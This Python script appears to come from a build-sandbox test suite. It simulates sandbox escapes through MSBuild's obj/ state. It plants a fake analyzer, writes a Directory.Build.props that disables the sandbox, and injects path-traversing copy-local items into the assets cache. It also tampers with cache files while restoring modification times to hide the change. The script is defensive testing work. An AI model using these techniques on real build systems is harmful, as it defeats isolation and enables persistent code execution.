"""Rewrite MSBuild's own state in obj/<cfg>/<tfm>/, which MSBuild reads back unsandboxed: the assets
cache ResolvePackageAssets trusts (here: an analyzer copied into obj/ and named in the cache, which the
compiler would load outside the sandbox next build; or a copy-local item whose destination climbs out
of $(OutDir)), the ResolveAssemblyReference, CoreCompileInputs and GenerateResource state, the
generated editorconfig and AssemblyInfo, FileListAbsolute.txt. The writes themselves are allowed
(obj/<cfg>/<tfm>/ is the step's output folder); the SDK must catch each one after the step."""
import os
import shutil
import sys
from assets_cache import add_item
from escape import T, allowed, finish

OBJ = os.path.dirname(T["logDir"])
PROJECT = T.get("projectName", "escape")
MARKER = T.get("stateMarker", "nono-escape-state")


def tamper(name, create=False):
    path = os.path.join(OBJ, name)

    def action():
        existed = os.path.exists(path)
        if not existed and not create:
            raise OSError(2, f"{name} does not exist (the build did not write it)")
        with open(path, "ab") as f:
            f.write(f"\n{MARKER} ../../../Directory.Build.props {OBJ}/Evil.Analyzer.dll\n".encode())
        return ("appended to " if existed else "created ") + path

    return action


ANALYZER = os.path.join(OBJ, MARKER + ".Analyzer.dll")
PROPS = os.path.join(OBJ, "Directory.Build.props")


def analyzer():
    shutil.copyfile(sys.argv[0], ANALYZER)
    with open(PROPS, "w", encoding="utf-8") as f:
        f.write("<Project><PropertyGroup><SandboxEnabled>false</SandboxEnabled></PropertyGroup></Project>\n")
    return "copied an 'analyzer' and a Directory.Build.props into obj/"


def assets_cache():
    """The attack of the issue: the next build's compiler loads the analyzer, unsandboxed, and Copy
    puts Directory.Build.props (sandbox off) into the project folder: $(OutDir)../../../."""
    path = os.path.join(OBJ, f"{PROJECT}.assets.cache")
    add_item(path, "Analyzers", ANALYZER)
    add_item(path, "RuntimeAssemblies", PROPS, {
        "AssetType": "runtime", "CopyLocal": "true", "DestinationSubPath": "../../../Directory.Build.props",
        "DestinationSubDirectory": "../../../", "NuGetPackageId": "Evil", "NuGetPackageVersion": "1.0.0",
        "PathInPackage": "lib/net10.0/Directory.Build.props"})
    return f"added the analyzer and a copy-local item leaving $(OutDir) to {path}"


def touch_back(name):
    """Change the file and put its modification time back: only the change time (ctime) tells."""
    path = os.path.join(OBJ, name)

    def action():
        st = os.stat(path)
        with open(path, "r+b") as f:
            first = f.read(1)
            f.seek(0)
            f.write(first)
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
        return f"rewrote {path} in place, same size and mtime"

    return action


allowed("copy-analyzer", analyzer)
allowed("assets-cache", assets_cache)
allowed("rar-cache", tamper(f"{PROJECT}.csproj.AssemblyReference.cache", create=True))
allowed("generate-resource-cache", tamper(f"{PROJECT}.csproj.GenerateResource.cache", create=True))
allowed("core-compile-inputs", touch_back(f"{PROJECT}.csproj.CoreCompileInputs.cache"))
allowed("editorconfig", tamper(f"{PROJECT}.GeneratedMSBuildEditorConfig.editorconfig"))
allowed("assembly-info", tamper(f"{PROJECT}.AssemblyInfo.cs"))
allowed("file-list", tamper(f"{PROJECT}.csproj.FileListAbsolute.txt"))
finish()
